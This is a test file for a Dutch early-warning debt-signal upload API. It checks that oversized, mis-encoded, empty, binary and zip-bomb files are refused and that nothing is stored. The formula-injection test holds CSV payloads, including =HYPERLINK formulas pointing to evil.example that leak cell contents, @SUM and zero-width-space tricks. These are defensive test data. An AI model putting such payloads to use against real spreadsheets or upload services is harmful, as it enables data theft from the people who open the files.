/**
 * Hostile input for the early-signal upload: oversized files, too many rows, wrong encodings, delimiters,
 * quoted newlines, empty and header-only files, formulas in cells, xlsx zip bombs and binary junk. Every
 * whole-file refusal gets a clear Dutch message and stores nothing (no signals, no delivery, no audit);
 * a row-level problem rejects only that row.
 */
import { randomBytes } from 'node:crypto';
import { Readable } from 'node:stream';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { sql } from 'kysely';
import { databases, testOmgeving, type TestOmgeving } from '../helpers/omgeving.ts';
import {
  aanmelding,
  csv,
  gemeenteOrg,
  KOP,
  laadGemeenten,
  partnerMetConvenanten,
  rij,
  type Org,
} from '../helpers/fixtures/vroegsignalering.ts';

const MAX_BYTES = 256 * 1024;
const MAX_REGELS = 6000;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** Short rows (required columns + street) so that more than one 5,000-row block fits under the size limit. */
const KORT = 'Achternaam;Straatnaam;Huisnummer;Postcode;Aantal maanden achterstand;Bedrag achterstand';
const korteRegels = (n: number, straat = 'Dorpsstraat', eerste = 1) =>
  Array.from({ length: n }, (_, i) => `Naam${i};${straat};${eerste + i};3511AB;2;150\r\n`).join('');
/** An upload that arrives in 16 KiB pieces, like a real HTTP body (inject would otherwise send one chunk). */
const inStukken = (b: Buffer) =>
  Readable.from(Array.from({ length: Math.ceil(b.length / 16384) }, (_, i) => b.subarray(i * 16384, (i + 1) * 16384)));

type Rapport = {
  regels: number;
  geaccepteerd: number;
  afgewezenAantal: number;
  afgewezen: { regel: number; reden: string; klantnummer?: string }[];
};

for (const kind of await databases()) {
  describe(`Vroegsignalen: hostile uploads on ${kind}`, () => {
    let t: TestOmgeving;
    let a: Org;
    beforeAll(async () => {
      t = await testOmgeving(kind, { SIGNAAL_MAX_BYTES: MAX_BYTES, SIGNAAL_MAX_REGELS: MAX_REGELS });
      await laadGemeenten(t, ['GM0344']);
      const utrecht = await gemeenteOrg(t, 'Gemeente Utrecht', 'GM0344');
      a = await t.organisatie('Energie A', 'signaalpartner');
      await partnerMetConvenanten(t, a, aanmelding(['GM0344']), [utrecht]);
    });
    afterAll(async () => t?.sluit());

    const upload = (body: string | Buffer | Readable, type = 'text/csv') =>
      t.app.inject({
        method: 'POST',
        url: '/api/vroegsignalen/leveringen?bestandsnaam=vijandig.csv',
        headers: { ...a.headers, 'content-type': type },
        payload: body,
      });
    const tel = async (tabel: 'vroegsignalen' | 'vroegsignaal_leveringen') =>
      (await t.ctx.db.kysely.selectFrom(tabel).select(sql<number>`count(*)`.as('n')).executeTakeFirstOrThrow()).n;
    const telAudit = async () =>
      (
        await t.ctx.db.kysely
          .selectFrom('audit_log')
          .select(sql<number>`count(*)`.as('n'))
          .where('actie', 'in', ['vroegsignaal.ontvangen', 'vroegsignaal.herhaling', 'vroegsignaal.levering'])
          .executeTakeFirstOrThrow()
      ).n;
    let voor: { signalen: number; leveringen: number; audit: number };
    const momentopname = async () => {
      voor = {
        signalen: await tel('vroegsignalen'),
        leveringen: await tel('vroegsignaal_leveringen'),
        audit: await telAudit(),
      };
    };
    beforeEach(momentopname);
    /** A whole-file refusal: status, a Dutch problem title, and nothing stored at all. */
    async function geweigerd(r: Awaited<ReturnType<typeof upload>>, status: number, titel: RegExp) {
      expect(r.statusCode, r.body).toBe(status);
      expect(r.headers['content-type']).toContain('application/problem+json');
      expect(r.json().title).toMatch(titel);
      expect(await tel('vroegsignalen')).toBe(voor.signalen);
      expect(await tel('vroegsignaal_leveringen')).toBe(voor.leveringen);
      expect(await telAudit()).toBe(voor.audit);
    }

    it('a file over the size limit is refused, also when the limit is hit after more than one block of valid rows', async () => {
      // ~280 KB of valid rows: the limit (256 KiB) is crossed after about 5,000 rows.
      const body = Buffer.from(`${KORT}\r\n${korteRegels(5500, 'Dorpsstraat achter de kerk')}`);
      expect(body.length).toBeGreaterThan(MAX_BYTES);
      await geweigerd(await upload(inStukken(body)), 413, /^Het bestand is te groot: de grens is 0,3 MB\.$/);
      // In one piece too.
      await geweigerd(await upload(body), 413, /te groot/);
    });

    it('a file with more rows than allowed is refused and nothing of it is stored', async () => {
      const body = Buffer.from(`${KORT}\r\n${korteRegels(MAX_REGELS + 1)}`);
      expect(body.length).toBeLessThan(MAX_BYTES);
      await geweigerd(
        await upload(inStukken(body)),
        413,
        /^Het bestand bevat te veel regels: de grens is 6\.000 regels\.$/,
      );
    });

    it('UTF-8 with BOM and Windows-1252 are both read correctly; UTF-16 is refused with advice', async () => {
      const metBom = Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from(csv([rij('Özdemir-Béké', '3511AB', '101')]), 'utf8'),
      ]);
      const r1 = await upload(metBom);
      expect(r1.statusCode, r1.body).toBe(201);
      expect((r1.json() as Rapport).geaccepteerd).toBe(1);
      const r2 = await upload(iconv.encode(csv([rij('Müller-Françoise', '3511AB', '102')]), 'win1252'));
      expect((r2.json() as Rapport).geaccepteerd).toBe(1);
      const namen = await t.ctx.db.kysely
        .selectFrom('vroegsignalen')
        .select('achternaam')
        .where('huisnummer', 'in', [101, 102])
        .orderBy('huisnummer')
        .execute();
      expect(namen.map((n) => n.achternaam)).toEqual(['Özdemir-Béké', 'Müller-Françoise']);

      await momentopname();
      await geweigerd(
        await upload(iconv.encode(`\ufeff${csv([rij('Jansen', '3511AB', '103')])}`, 'utf16le')),
        400,
        /UTF-16.*UTF-8 of Windows-1252/,
      );
    });

    it('an encoding that changes halfway (UTF-8, then a Windows-1252 byte after 5,000+ rows) refuses the whole file', async () => {
      const goed = Buffer.from(`${KORT}\r\n${korteRegels(5200, 'Dorpsstraat')}`, 'utf8');
      const fout = iconv.encode('Renée;Dorpsstraat;9999;3511AB;2;150\r\n', 'win1252');
      const body = Buffer.concat([goed, fout]);
      expect(body.length).toBeLessThan(MAX_BYTES);
      await geweigerd(await upload(inStukken(body)), 400, /ongeldige tekens: de tekenset wisselt halverwege/);
    });

    it('semicolon and comma delimiters are both recognised (comma file with quoted decimal amounts)', async () => {
      const komma =
        'Achternaam,Huisnummer,Postcode,Aantal maanden achterstand,Bedrag achterstand,Klantnummer\r\n' +
        'Jansen,201,3511AB,2,"1.234,56",KOMMA-1\r\nde Vries,202,3511AB,2,"80,00",KOMMA-2\r\n';
      const r = await upload(komma);
      expect(r.statusCode, r.body).toBe(201);
      expect(r.json()).toMatchObject({ regels: 2, geaccepteerd: 2, afgewezenAantal: 0 });
      const rows = await t.ctx.db.kysely
        .selectFrom('vroegsignalen')
        .select(['klantnummer', 'bedrag_achterstand'])
        .where('klantnummer', 'like', 'KOMMA-%')
        .orderBy('klantnummer')
        .execute();
      expect(rows.map((x) => [x.klantnummer, Number(x.bedrag_achterstand)])).toEqual([
        ['KOMMA-1', 1234.56],
        ['KOMMA-2', 80],
      ]);
      // The same rows separated by ';' (one data column more than the header is a row error, not a file error).
      const punt = `${KOP};Klantnummer\r\n${[...rij('Jansen', '3511AB', '203'), 'PUNT-1'].join(';')}\r\n${[...rij('Jansen', '3511AB', '204'), 'PUNT-2', 'extra'].join(';')}\r\n`;
      const r2 = (await upload(punt)).json() as Rapport;
      expect(r2).toMatchObject({
        regels: 2,
        geaccepteerd: 1,
        afgewezen: [{ regel: 3, reden: 'Regel heeft 15 velden, de kopregel 14', klantnummer: 'PUNT-2' }],
      });
    });

    it('quoted newlines: one record, later line numbers stay right, the line break is stored as a space', async () => {
      const body =
        `${KORT};Klantnummer\r\n` +
        'Jansen;"Dorpsstraat\r\n2 hoog";301;3511AB;2;150;NL-1\r\n' + // lines 2-3
        '"de\nVries";Kerkweg;302;3511AB;2;0;NL-2\r\n' + // lines 4-5: amount 0
        'Bakker;Kerkweg;303;3511AB;2;150;NL-3\r\n'; // line 6
      const r = await upload(body);
      expect(r.statusCode, r.body).toBe(201);
      expect(r.json()).toMatchObject({
        regels: 3,
        geaccepteerd: 2,
        afgewezen: [{ regel: 4, reden: expect.stringContaining('groter dan 0'), klantnummer: 'NL-2' }],
      });
      const s = await t.ctx.db.kysely
        .selectFrom('vroegsignalen')
        .select(['straatnaam'])
        .where('klantnummer', '=', 'NL-1')
        .executeTakeFirstOrThrow();
      expect(s.straatnaam).toBe('Dorpsstraat 2 hoog');
      // An unclosed quote after 5,000+ valid rows refuses the whole file.
      await momentopname();
      const open = Buffer.from(
        `${KORT}\r\n${korteRegels(5100, 'Dorpsstraat', 1000)}Open;"Dorpsstraat;9999;3511AB;2;150\r\nNaam;Kerkweg;9998;3511AB;2;150\r\n`,
      );
      await geweigerd(await upload(inStukken(open)), 400, /^Een aanhalingsteken op regel 5102 wordt niet gesloten\.$/);
    });

    it('empty files, blank lines only, and a header without rows are refused', async () => {
      await geweigerd(await upload(''), 400, /^Het bestand is leeg\.$/);
      await geweigerd(await upload('\r\n\r\n  \r\n'), 400, /^Het bestand is leeg\.$/);
      await geweigerd(await upload(`${KOP}\r\n`), 400, /^Het bestand bevat geen signalen: alleen de kopregel\./);
      await geweigerd(await upload(`${KOP}\r\n;;;;;;;;;;;;\r\n\r\n`), 400, /alleen de kopregel/);
    });

    it('formulas in cells are never stored: the row is rejected with a Dutch reason; a +31 phone number is a phone number', async () => {
      const kop = `${KOP};Klantnummer`;
      // Proper CSV quoting: a formula with ';' or '"' is one field.
      const cel = (v: string) => (/[;"\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
      const r = await upload(
        csv(
          (
            [
              [...rij('=HYPERLINK("http://evil.example/?x="&A1;"klik")', '3511AB', '401'), 'F-1'], // 2 surname
              [...rij('Jansen', '3511AB', '402').map((v, i) => (i === 6 ? '+31 Utrecht' : v)), 'F-2'], // 3 town
              [...rij('Jansen', '3511AB', '403').map((v, i) => (i === 2 ? '-2+3' : v)), 'F-3'], // 4 street
              [...rij('Jansen', '3511AB', '404').map((v, i) => (i === 1 ? '@SUM(A1:A9)' : v)), 'F-4'], // 5 initials
              [...rij('Jansen', '3511AB', '405'), '=1+1'], // 6 customer number
              [...rij('\u200b=HYPERLINK("x")', '3511AB', '406'), 'F-6'], // 7 hidden behind a zero-width space
              [...rij('Jansen', '3511AB', '407').map((v, i) => (i === 7 ? '=HYPERLINK("tel:1")' : v)), 'F-7'], // 8 phone
              [...rij('Jansen', '3511AB', '408').map((v, i) => (i === 10 ? '=x@evil.example' : v)), 'F-8'], // 9 e-mail
              [...rij('Jansen', '3511AB', '409', { bedrag: '=100' }), 'F-9'], // 10 amount
              [...rij('Jansen', '3511AB', '410', { toev: '-A' }), 'F-10'], // 11 addition
              [...rij('Jansen', '3511AB', '411').map((v, i) => (i === 7 ? '+31 6 12345678' : v)), 'F-11'], // 12 valid: international phone
              [...rij('Jan\u0007sen', '3511AB', '412'), 'F-12'], // 13 control character
            ] as string[][]
          ).map((r) => r.map(cel)),
          kop,
        ),
      );
      expect(r.statusCode, r.body).toBe(201);
      const rap = r.json() as Rapport;
      expect(rap).toMatchObject({ regels: 12, geaccepteerd: 1, afgewezenAantal: 11 });
      const reden = (regel: number) => rap.afgewezen.find((x) => x.regel === regel)?.reden ?? '';
      expect(reden(2)).toMatch(/^Achternaam mag niet beginnen met =, \+, -, @ of een tab/);
      expect(reden(3)).toMatch(/^Woonplaats mag niet beginnen met =/);
      expect(reden(4)).toMatch(/^Straatnaam mag niet beginnen met =/);
      expect(reden(5)).toMatch(/^Voorletters mag niet beginnen met =/);
      expect(reden(6)).toMatch(/^Klantnummer mag niet beginnen met =/);
      expect(reden(7)).toMatch(/^Achternaam mag niet beginnen met =/);
      expect(reden(8)).toBe('Telefoonnummer 1 heeft geen geldig formaat');
      expect(reden(9)).toBe('E-mailadres heeft geen geldig formaat');
      expect(reden(10)).toContain('Bedrag achterstand is geen getal');
      expect(reden(11)).toMatch(/^Huisnummer toevoeging mag niet beginnen met =/);
      expect(reden(13)).toBe('Achternaam bevat een ongeldig teken (stuurteken)');
      // The report never echoes a formula; nothing stored starts like one (the phone is digits only).
      expect(r.body).not.toMatch(/HYPERLINK|SUM\(|evil/);
      const opgeslagen = await t.ctx.db.kysely
        .selectFrom('vroegsignalen')
        .selectAll()
        .where('huisnummer', '>=', 401)
        .where('huisnummer', '<=', 412)
        .execute();
      expect(opgeslagen.map((s) => [s.huisnummer, s.telefoon1])).toEqual([[411, '+31 6 12345678']]);
      for (const s of await t.ctx.db.kysely.selectFrom('vroegsignalen').selectAll().execute()) {
        for (const [k, v] of Object.entries(s)) {
          if (typeof v === 'string' && !k.startsWith('telefoon')) expect(v, k).not.toMatch(/^[\p{Cf}\s]*[=+\-@]/u);
        }
      }
    });

    it('xlsx: a text cell with a formula is rejected like CSV; a formula cell counts by its cached value only', async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Signalen');
      ws.addRow([
        'Achternaam',
        'Huisnummer',
        'Postcode',
        'Aantal maanden achterstand',
        'Bedrag achterstand',
        'Woonplaats',
        'Klantnummer',
      ]);
      ws.addRow(['=HYPERLINK("http://evil.example")', 501, '3511AB', 2, 150, 'Utrecht', 'X-1']);
      ws.addRow([
        'Jansen',
        502,
        '3511AB',
        2,
        150,
        { formula: 'HYPERLINK("http://evil.example","Utrecht")', result: 'Utrecht' },
        'X-2',
      ]);
      ws.addRow(['Jansen', 503, '3511AB', 2, 150, { formula: 'CONCAT("=","cmd")', result: '=cmd' }, 'X-3']);
      const r = await upload(Buffer.from(await wb.xlsx.writeBuffer()), XLSX);
      expect(r.statusCode, r.body).toBe(201);
      expect(r.json()).toMatchObject({ regels: 3, geaccepteerd: 1 });
      expect((r.json() as Rapport).afgewezen.map((x) => [x.regel, x.reden.slice(0, 33)])).toEqual([
        [2, 'Achternaam mag niet beginnen met '],
        [4, 'Woonplaats mag niet beginnen met '],
      ]);
      const s = await t.ctx.db.kysely
        .selectFrom('vroegsignalen')
        .select(['woonplaats'])
        .where('klantnummer', '=', 'X-2')
        .executeTakeFirstOrThrow();
      expect(s.woonplaats).toBe('Utrecht');
    });

    it('an xlsx zip bomb, an xlsx over the size limit and a broken zip are refused', async () => {
      const wb = new ExcelJS.Workbook();
      const ws = wb.addWorksheet('Signalen');
      ws.addRow(['Achternaam', 'Huisnummer', 'Postcode', 'Aantal maanden achterstand', 'Bedrag achterstand']);
      ws.addRow(['B'.repeat(4 * 1024 * 1024), 601, '3511AB', 2, 150]);
      const bom = Buffer.from(await wb.xlsx.writeBuffer());
      expect(bom.length).toBeLessThan(MAX_BYTES);
      await geweigerd(
        await upload(bom, XLSX),
        400,
        /^Dit Excel-bestand pakt uit tot een onredelijk grote omvang en is geweigerd\.$/,
      );

      const groot = new ExcelJS.Workbook();
      const gs = groot.addWorksheet('Signalen');
      gs.addRow([
        'Achternaam',
        'Huisnummer',
        'Postcode',
        'Aantal maanden achterstand',
        'Bedrag achterstand',
        'Klantnummer',
      ]);
      // Incompressible customer numbers push the zip over the 256 KiB limit.
      for (let i = 0; i < 4000; i++)
        gs.addRow([`N${i}`, 700 + i, '3511AB', 2, 150, randomBytes(48).toString('base64')]);
      const grootBuf = Buffer.from(await groot.xlsx.writeBuffer());
      expect(grootBuf.length).toBeGreaterThan(MAX_BYTES);
      await geweigerd(await upload(grootBuf, XLSX), 413, /^Het bestand is te groot/);

      await geweigerd(
        await upload(Buffer.concat([Buffer.from('PK\x03\x04'), randomBytes(5000)]), XLSX),
        400,
        /^Dit Excel-bestand kan niet worden gelezen/,
      );
    });

    it('binary junk is refused as "not a CSV file", also when it starts after 5,000+ valid rows', async () => {
      let junk = randomBytes(100_000);
      if (junk[0] === 0x50) junk = Buffer.concat([Buffer.from([0]), junk]);
      await geweigerd(await upload(junk), 400, /^Dit is geen CSV-bestand\./);
      // High bytes without NUL (not UTF-8, not text either).
      const hoog = Buffer.from(Array.from({ length: 20_000 }, (_, i) => 0x80 + ((i * 37) % 128)));
      await geweigerd(await upload(hoog), 400, /^Dit is geen CSV-bestand\./);
      await geweigerd(
        await upload(
          Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n\0\0\0\0', 'latin1'),
        ),
        400,
        /geen CSV-bestand/,
      );
      // Valid rows first, then junk with NUL bytes.
      const body = Buffer.concat([
        Buffer.from(`${KORT}\r\n${korteRegels(5100, 'Dorpsstraat', 2000)}`),
        Buffer.alloc(30_000, 0),
      ]);
      await geweigerd(await upload(inStukken(body)), 400, /^Dit is geen CSV-bestand\./);
    });

    it('after all that, a normal upload of more than one block still works', async () => {
      const r = await upload(inStukken(Buffer.from(`${KORT}\r\n${korteRegels(5100, 'Dorpsstraat', 20_000)}`)));
      expect(r.statusCode, r.body).toBe(201);
      expect(r.json()).toMatchObject({ regels: 5100, geaccepteerd: 5100, nieuw: 5100, afgewezenAantal: 0 });
      expect(await tel('vroegsignalen')).toBe(voor.signalen + 5100);
      expect(await telAudit()).toBe(voor.audit + 5101);
    });
  });
}
